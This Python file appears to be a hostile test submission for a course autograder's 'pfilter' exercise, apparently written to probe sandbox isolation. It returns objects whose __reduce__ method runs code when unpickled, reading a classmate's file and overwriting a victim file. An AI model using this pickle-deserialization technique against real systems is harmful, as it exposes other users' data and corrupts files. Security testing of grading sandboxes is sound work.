"""Hands over objects whose unpickling writes, reads and prints, wherever somebody unpickles them."""
# attack: week=11 exercise=pfilter
import multiprocessing
import os


def bite(parent):
    if os.getppid() not in (parent, 0) and os.getpid() != parent:
        print("SURPRISE: unpickled in", os.getpid())
    with open("@CLASSMATE@") as file:
        print(file.read())
    with open("@VICTIM@", "w") as file:
        file.write("bitten")
    return []


class Answer(list):
    def __reduce__(self):
        return bite, (self.parent,)


def work(answers, end, parent):
    answer = Answer()
    answer.parent = parent
    answers.put(answer)
    end.send(answer)


def pfilter(fn, data, nworkers):
    answers, (ours, theirs) = multiprocessing.Queue(), multiprocessing.Pipe()
    worker = multiprocessing.Process(target=work, args=(answers, theirs, os.getpid()))
    worker.start()
    for take in (answers.get, ours.recv):
        try:
            take()
        except OSError as error:
            print("refused", error)
    worker.join()
    found = Answer(data)
    found.parent = os.getpid()
    return found
